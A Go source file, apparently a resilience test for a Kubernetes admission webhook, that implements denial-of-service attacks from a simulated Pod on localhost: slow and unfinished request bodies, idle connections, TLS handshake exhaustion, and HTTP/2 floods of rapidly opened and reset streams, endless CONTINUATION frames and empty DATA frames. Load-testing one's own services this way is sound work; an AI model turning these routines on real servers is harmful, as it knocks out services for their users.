package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"
)

// attack is an attack of a Pod on a webhook.
type attack struct {
	address string
	dialer  *net.Dialer
}

func newAttack(address string) *attack {
	parsed, err := url.Parse(address)
	if err != nil {
		panic(err)
	}
	// another address of this machine, as of another Pod
	return &attack{address: parsed.Host, dialer: &net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}}
}

func (a *attack) connect(protocols ...string) (net.Conn, error) {
	connection, err := tls.DialWithDialer(a.dialer, "tcp", a.address, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols})
	if err != nil {
		return nil, err
	}
	return connection, connection.SetDeadline(time.Now().Add(60 * time.Second))
}

// podReviews returns an attack with reviews of an object, each over a connection with HTTP/1.1.
func podReviews(object func() string) func(a *attack) error {
	text := sync.OnceValue(func() string {
		body := reviewOf("attack", object())
		return fmt.Sprintf("POST /validate?timeout=5s HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	})
	return func(a *attack) error { return a.exchange(text()) }
}

// slowBody announces a review of 8 MiB, sends nearly all of it, and waits.
func (a *attack) slowBody() error {
	const size = 8<<20 - 64
	return a.exchange(fmt.Sprintf("POST /validate?timeout=30s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", size, strings.Repeat(" ", size-1024)))
}

// slowSmallBody is a review that counts as small and never ends.
func (a *attack) slowSmallBody() error {
	return a.exchange("POST /validate?timeout=30s HTTP/1.1\r\nHost: x\r\nContent-Length: 65000\r\n\r\n" + strings.Repeat(" ", 60_000))
}

func (a *attack) idle() error { return a.exchange("") }

// exchange sends a text and reads until the webhook closes the connection.
func (a *attack) exchange(text string) error {
	connection, err := a.connect()
	if err != nil {
		return err
	}
	defer connection.Close()
	if _, err := io.WriteString(connection, text); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, connection)
	return err
}

// handshake lets the webhook sign, which costs it more than the client.
func (a *attack) handshake() error {
	connection, err := a.connect()
	if err != nil {
		return err
	}
	return connection.Close()
}

// halfHandshake opens a connection and begins a TLS handshake that never ends.
func (a *attack) halfHandshake() error {
	connection, err := a.dialer.Dial("tcp", a.address)
	if err != nil {
		return err
	}
	defer connection.Close()
	if _, err := connection.Write([]byte{22, 3, 1, 2, 0, 1}); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, connection)
	return err
}

// http2 returns a connection after the preface.
func (a *attack) http2() (net.Conn, error) {
	connection, err := a.connect("h2")
	if err != nil {
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, connection) }()
	_, err = connection.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, nil)...))
	return connection, err
}

// headers returns a frame that begins a stream.
func headers(stream uint32) []byte {
	path := "\x04\x09/validate" // literal header with the indexed name :path
	return frame(1, 4, stream, []byte("\x83\x87"+path))
}

// frames opens streams that never end, and resets each of them if wanted.
func (a *attack) frames(reset bool) error {
	connection, err := a.http2()
	if err != nil {
		return err
	}
	defer connection.Close()
	for stream := uint32(1); stream < 200_000; {
		var batch []byte
		for range 100 {
			batch = append(batch, headers(stream)...)
			if reset {
				batch = append(batch, frame(3, 0, stream, []byte{0, 0, 0, 8})...)
			}
			stream += 2
		}
		if _, err := connection.Write(batch); err != nil {
			return err
		}
	}
	return nil
}

// repeated sends the same frame without an end.
func (a *attack) repeated(each []byte) error {
	connection, err := a.http2()
	if err != nil {
		return err
	}
	defer connection.Close()
	return flow(connection, each)
}

// emptyData sends frames of a body that carry no byte.
func (a *attack) emptyData() error {
	connection, err := a.http2()
	if err != nil {
		return err
	}
	defer connection.Close()
	if _, err := connection.Write(headers(1)); err != nil {
		return err
	}
	return flow(connection, frame(0, 0, 1, nil))
}

// continuation sends headers that never end.
func (a *attack) continuation() error {
	connection, err := a.http2()
	if err != nil {
		return err
	}
	defer connection.Close()
	if _, err := connection.Write(frame(1, 0, 1, []byte("\x83\x87\x84"))); err != nil {
		return err
	}
	return flow(connection, frame(9, 0, 1, nil))
}

func flow(connection net.Conn, each []byte) error {
	batch := slices.Repeat(each, 7_000)
	for {
		if _, err := connection.Write(batch); err != nil {
			return err
		}
	}
}

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	length := len(payload)
	header := []byte{byte(length >> 16), byte(length >> 8), byte(length), kind, flags,
		byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}
	return append(header, payload...)
}
